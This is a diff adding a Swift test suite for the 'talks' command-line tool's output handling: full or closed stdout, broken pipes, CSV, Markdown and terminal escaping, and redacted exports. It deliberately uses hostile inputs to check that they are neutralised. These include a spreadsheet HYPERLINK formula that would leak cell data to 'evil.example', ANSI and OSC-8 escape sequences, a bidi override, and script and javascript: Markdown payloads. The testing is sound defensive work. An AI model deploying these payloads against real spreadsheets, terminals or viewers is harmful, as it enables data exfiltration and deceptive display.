@@ -1,0 +1,182 @@
+import Foundation
+import TestSupport
+import Testing
+
+/// Everything `talks` writes is read by a terminal, a spreadsheet or a Markdown viewer, and
+/// standard output may be full, closed or gone: nothing from the data may act there, and no
+/// failure to print may crash or hide what was committed (spec/cli.md, exit 74).
+@Suite struct OutputTests {
+    /// Runs a `sh -c` script with `$T` the binary and `$DB` the workspace's store.
+    func shell(_ w: Workspace, _ script: String) throws -> Run {
+        try Running([script], environment: ["T": Fixture.binary, "DB": w.db], shell: true).finish()
+    }
+
+    @Test func aFullDiskOnStandardOutputExits74AndSaysNothingWasWritten() throws {
+        let w = try Workspace()
+        for command in ["list talks", "export", "check --as-of 2026-11-21", "show T2026-003", "audit log", "--help"] {
+            let run = try shell(w, "$T --db \"$DB\" \(command) > /dev/full")
+            #expect(run.status == 74, "\(command): \(run.stderr)")
+            #expect(run.stderr.contains("cannot write to standard output"), "\(command): \(run.stderr)")
+            #expect(!run.stderr.contains("Fatal error") && run.stderr.split(separator: "\n").count == 1, "\(command)")
+        }
+    }
+
+    /// A write that committed says so when its confirmation cannot be printed, so a script does not
+    /// retry it and record the talk twice.
+    @Test func aCommittedRecordSaysSoWhenItsConfirmationCannotBePrinted() throws {
+        let w = try Workspace()
+        let run = try shell(
+            w, "$T --db \"$DB\" record --kind regular --organization ap --talker p-zhou --held 2026-11-18 > /dev/full")
+        #expect(run.status == 74)
+        #expect(run.stderr.contains("T2026-030 was recorded; the confirmation could not be printed"), "\(run.stderr)")
+        #expect(try w.run("show", "T2026-030").status == 0)
+        let followUp = try shell(w, "$T --db \"$DB\" measures T2026-030 --reported 2026-11-20 > /dev/full")
+        #expect(followUp.status == 74 && followUp.stderr.contains("T2026-030 was changed"), "\(followUp.stderr)")
+    }
+
+    /// With standard output closed nothing is done at all, and the store's file can never take
+    /// descriptor 1 and receive our output.
+    @Test func aClosedStandardOutputStopsEveryCommandBeforeItStarts() throws {
+        let w = try Workspace()
+        let before = try w.export()
+        let run = try shell(
+            w, "$T --db \"$DB\" record --kind regular --organization ap --talker p-zhou --held 2026-11-18 >&-")
+        #expect(run.status == 74)
+        #expect(run.stderr.contains("standard output is closed; nothing was written to the store"), "\(run.stderr)")
+        #expect(try w.export() == before)
+        let closedInput = try shell(w, "$T --db \"$DB\" list talks <&- 2>&- | head -1")
+        #expect(closedInput.status == 0 && closedInput.stdout.hasPrefix("id"))
+        #expect(try sqlite3(w.db, "PRAGMA integrity_check") == "ok")
+    }
+
+    /// A reader that stops early (`| head -1`), even with SIGPIPE ignored by the parent, ends the
+    /// command quietly.
+    @Test func aReaderThatGoesAwayEndsTheCommandQuietly() throws {
+        let w = try Workspace()
+        try bulkTalks(3_000, prefix: "PIPE").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
+        let loaded = try w.run("load", w.folder + "/bulk.json")
+        #expect(loaded.status == 0, "\(loaded.stderr)")
+        let run = try shell(w, "trap '' PIPE; $T --db \"$DB\" export | head -1; echo \"status ${PIPESTATUS:-}\"")
+        #expect(run.stdout.hasPrefix("{"))
+        #expect(run.stderr.isEmpty, "\(run.stderr)")
+        let status = try shell(w, "trap '' PIPE; $T --db \"$DB\" list talks | head -1 >/dev/null; exit 0")
+        #expect(status.stderr.isEmpty, "\(status.stderr)")
+    }
+
+    /// A dataset of the sample whose first person is `name`.
+    func sample(withPerson name: String, organization: String? = nil) throws -> String {
+        var text = try String(contentsOfFile: Fixture.sample, encoding: .utf8)
+        text = text.replacingOccurrences(of: "\"name\": \"曹明远\"", with: "\"name\": \(json(name))")
+        if let organization {
+            text = text.replacingOccurrences(of: "\"name\": \"安平市委\"", with: "\"name\": \(json(organization))")
+        }
+        return text
+    }
+
+    func json(_ text: String) -> String {
+        String(decoding: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), as: UTF8.self)
+    }
+
+    static let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"清溪县委\")"
+
+    /// Every CSV we write makes a formula inert, and `talks import` reads it back exactly.
+    @Test func noCsvCellRunsAsAFormulaAndImportReadsItBack() throws {
+        let w = try Workspace(loaded: false)
+        #expect(try w.run("load", w.file("hostile.json", sample(withPerson: Self.formula))).status == 0)
+        let outputs = [
+            try w.run("list", "people", "--format", "csv"),
+            try w.run("export", "--format", "csv", "--kind", "people"),
+        ]
+        for run in outputs {
+            #expect(run.status == 0, "\(run.stderr)")
+            #expect(run.stdout.contains("'=HYPERLINK"), "\(run.stdout.prefix(300))")
+            #expect(!run.stdout.contains(",=") && !run.stdout.contains(",\"=") && !run.stdout.contains("\n="))
+        }
+        let copy = try Workspace(loaded: false)
+        #expect(try copy.run("load", w.file("copy.json", sample(withPerson: "曹明远"))).status == 0)
+        let imported = try copy.run("import", w.file("people.csv", outputs[1].stdout), "--kind", "people")
+        #expect(imported.status == 0, "\(imported.stderr)")
+        let original = try w.export()
+        #expect(try copy.export() == original)
+    }
+
+    /// Names are refused when they hold controls; texts may, and are shown escaped wherever a
+    /// terminal shows them: tables, pages, the audit log and messages.
+    @Test func controlCharactersNeverReachTheTerminal() throws {
+        let w = try Workspace()
+        let hostile = "问题\u{1B}[2J\u{1B}]0;pwned\u{7}\r覆盖\u{202E}反转"
+        #expect(
+            try w.run(
+                "record", "--kind", "regular", "--organization", "ap", "--talker", "p-zhou", "--held", "2026-11-18",
+                "--problem", hostile
+            ).status == 0)
+        let file = w.file("\u{1B}[2J.json", try String(contentsOfFile: Fixture.sample, encoding: .utf8))
+        #expect(try w.run("load", file).status == 0)
+        let runs = [
+            try w.run("show", "T2026-030", "--include-confidential"),
+            try w.run("list", "talks", "--include-confidential"),
+            try w.run("audit", "log"),
+            try w.run("show", "\u{1B}]8;;http://evil.example\u{7}T1"),
+            try w.run("export", "--include-confidential"),
+            try w.run("show", "T2026-030", "--include-confidential", "--format", "json"),
+        ]
+        for run in runs {
+            for text in [run.stdout, run.stderr] {
+                #expect(
+                    !text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\r" || $0 == "\u{7}" || $0 == "\u{202E}" })
+            }
+        }
+        #expect(runs[0].stdout.contains("问题\\u{1B}[2J"))
+        #expect(runs[3].status == 2 && runs[3].stderr.contains("\\u{1B}]8;;"))
+        // The JSON escapes them, and loading it gives the same text back.
+        let copy = try Workspace(loaded: false)
+        #expect(try copy.run("load", w.file("backup.json", runs[4].stdout)).status == 0)
+        #expect(try copy.export() == runs[4].stdout)
+    }
+
+    @Test func markdownReportsShowNamesAsPlainText() throws {
+        let w = try Workspace(loaded: false)
+        let name = "<script>alert(1)</script>[链接](javascript:alert(1))![](http://evil.example/x.png)|尾\\"
+        #expect(try w.run("load", w.file("hostile.json", sample(withPerson: "曹明远", organization: name))).status == 0)
+        let report = try w.run("report", "annual", "--conductor", "jd", "--year", "2026", "--as-of", "2026-11-21")
+        #expect(report.status == 0, "\(report.stderr)")
+        #expect(report.stdout.contains("\\<script\\>alert(1)\\</script\\>\\[链接\\](javascript:alert(1))\\!\\[\\]"))
+        for marker in ["<", "](", "!["] {
+            // Each occurrence is escaped: preceded by a backslash.
+            let parts = report.stdout.components(separatedBy: marker).dropLast()
+            #expect(parts.allSatisfy { $0.hasSuffix("\\") }, "an unescaped \(marker)")
+        }
+    }
+
+    /// `record --file --replace` with a talk from the default (redacted) export keeps the stored
+    /// problems and requirements; only texts the file gives replace them.
+    @Test func replacingATalkFromARedactedExportKeepsItsConfidentialTexts() throws {
+        let w = try Workspace()
+        #expect(
+            try w.run(
+                "record", "--kind", "regular", "--organization", "ap", "--talker", "p-zhou", "--held", "2026-11-18",
+                "--problem", "PLANTED-PROBLEM", "--requirement", "PLANTED-REQUIREMENT"
+            ).status == 0)
+        let redacted = try w.run("export").stdout
+        let line = try #require(redacted.split(separator: "\n").first { $0.contains("\"T2026-030\"") })
+        let object = line.trimmingCharacters(in: CharacterSet(charactersIn: " ,"))
+        #expect(!object.contains("PLANTED"))
+        let replaced = try w.run("record", "--file", w.file("talk.json", object), "--replace", "--talker", "p-zhou")
+        #expect(replaced.status == 0, "\(replaced.stderr)")
+        let kept = try w.export()
+        #expect(kept.contains("PLANTED-PROBLEM") && kept.contains("PLANTED-REQUIREMENT"))
+        // An explicit empty list clears them.
+        let clearing = object.dropLast() + ", \"problems\": []}"
+        #expect(try w.run("record", "--file", w.file("cleared.json", String(clearing)), "--replace").status == 0)
+        let cleared = try w.export()
+        #expect(!cleared.contains("PLANTED-PROBLEM") && cleared.contains("PLANTED-REQUIREMENT"))
+    }
+
+    @Test(arguments: ["list talks --year 1", "list talks --year 99999", "report annual --conductor jd --year 1999"])
+    func everyYearFlagTakesTheSameYears(_ command: String) throws {
+        let w = try Workspace()
+        let run = try talks(["--db", w.db] + command.split(separator: " ").map(String.init))
+        #expect(run.status == 64)
+        #expect(run.stderr.contains("--year: ") && run.stderr.contains("from 2000 to 2100"), "\(run.stderr)")
+    }
+}
